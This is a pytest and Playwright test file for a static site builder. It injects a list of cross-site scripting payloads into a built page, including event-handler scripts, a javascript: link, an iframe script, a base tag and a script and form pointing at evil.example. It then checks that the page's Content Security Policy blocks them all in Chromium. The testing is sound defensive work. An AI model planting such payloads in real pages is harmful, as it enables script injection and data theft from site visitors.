"""What would have slipped through every check is stopped by the page's own policy, in a real Chromium."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page

from build_scripts.environment.progress import Progress
from build_scripts.site import Edition, Parts, build_site, finish_site
from tests.conftest import ServeFolder

HOSTILE = {
    "handler": '<img src="x" onerror="self.ran = true">',
    "event": '<details open ontoggle="self.ran = true"><summary>x</summary></details>',
    "link": '<a id="evil" href="javascript:self.ran = true">x</a>',
    "frame": '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
    "script": "<script>self.ran = true</script>",
    "file": '<script src="https://evil.example/x.js"></script>',
    "base": '<base href="https://evil.example/">',
    "picture": '<img src="https://evil.example/x.png">',
    "style": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "form": '<form id="asks" action="https://evil.example/"><input name="a"></form>',
}
PAGE = "wiring/index.html"


def finish_with_slips(folder: Path, parts: Parts) -> None:
    """Finish a site as always; then write into a page what every check is there to keep out."""
    finish_site(folder, parts)
    page = folder / PAGE
    text = page.read_text("utf-8")
    assert text.count("</article>") == 1
    page.write_text(text.replace("</article>", "".join(HOSTILE.values()) + "</article>"), "utf-8")


@pytest.fixture(scope="module")
def spoilt_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = tmp_path_factory.mktemp("spoilt") / "site"
    build_site(site, Progress(), edition=Edition(finish_with_slips))
    return site


def test_nothing_runs_and_nothing_is_asked_of_another_host(
    page: Page, spoilt_site: Path, serve_folder: ServeFolder
) -> None:
    address = serve_folder(spoilt_site)
    asked: list[str] = []
    refused: dict[str, str | None] = {}
    stopped: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    page.on("console", lambda message: stopped.append(message.text))
    page.goto(f"{address}wiring/")
    page.evaluate("document.querySelector('#evil').click()")
    page.evaluate("document.querySelector('#asks').submit()")
    page.wait_for_timeout(1000)
    assert page.evaluate("self.ran") is None
    assert page.url == f"{address}wiring/"
    foreign = {url for url in asked if not url.startswith((address, "data:", "about:"))}
    # The browser names them as asked for, and the policy as what has kept them from leaving it.
    assert {refused.get(url) for url in foreign} == {"csp"}, refused
    # The policy is what has stopped them: Chromium says so for each.
    told = "\n".join(stopped)
    assert told.count("Content Security Policy") >= len(HOSTILE) - 1, told


def test_the_same_words_run_where_no_policy_is(
    page: Page, spoilt_site: Path, serve_folder: ServeFolder, tmp_path: Path
) -> None:
    text = (spoilt_site / PAGE).read_text("utf-8")
    assert text.count("Content-Security-Policy") == 1
    (tmp_path / "index.html").write_text(text.replace("Content-Security-Policy", "X-Nothing"), "utf-8")
    page.goto(serve_folder(tmp_path))
    page.wait_for_function("self.ran === true")
